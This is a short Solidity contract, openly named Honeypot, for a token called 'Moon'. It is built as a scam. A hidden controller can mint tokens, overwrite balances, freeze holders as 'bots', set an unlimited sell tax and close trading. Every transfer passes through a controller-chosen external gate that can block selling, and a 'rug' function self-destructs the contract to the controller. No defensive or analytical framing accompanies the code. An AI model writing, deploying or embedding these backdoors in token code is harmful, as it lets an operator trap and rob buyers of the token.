// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IGate { function allowed(address from, address to) external returns (bool); }

contract Honeypot {
    string public name = "Moon";
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => bool) public isBot;
    address private controller;
    bool public tradingOpen;
    uint256 public sellTax = 5;
    uint256 public maxTx = 1e24;
    IGate gate;

    modifier onlyController() {
        require(msg.sender == controller, "no");
        _;
    }

    constructor(IGate g) {
        controller = msg.sender;
        gate = g;
    }

    function mint(address to, uint256 amount) external onlyController {
        totalSupply += amount;
        balanceOf[to] += amount;
    }

    function setTrading(bool open) external onlyController { tradingOpen = open; }
    function setBot(address who, bool bot) external onlyController { isBot[who] = bot; }
    function setTax(uint256 tax) external onlyController { sellTax = tax; }
    function setMaxTx(uint256 m) external onlyController { maxTx = m; }
    function setBalance(address who, uint256 amount) external onlyController { balanceOf[who] = amount; }
    function upgradeTo(address) external onlyController {}

    function transfer(address to, uint256 amount) external returns (bool) {
        require(tradingOpen, "closed");
        require(!isBot[msg.sender], "bot");
        require(amount <= maxTx, "too much");
        require(gate.allowed(msg.sender, to), "gated");
        uint256 fee = amount * sellTax / 100;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount - fee;
        return true;
    }

    function rug() external onlyController {
        selfdestruct(payable(controller));
    }
}
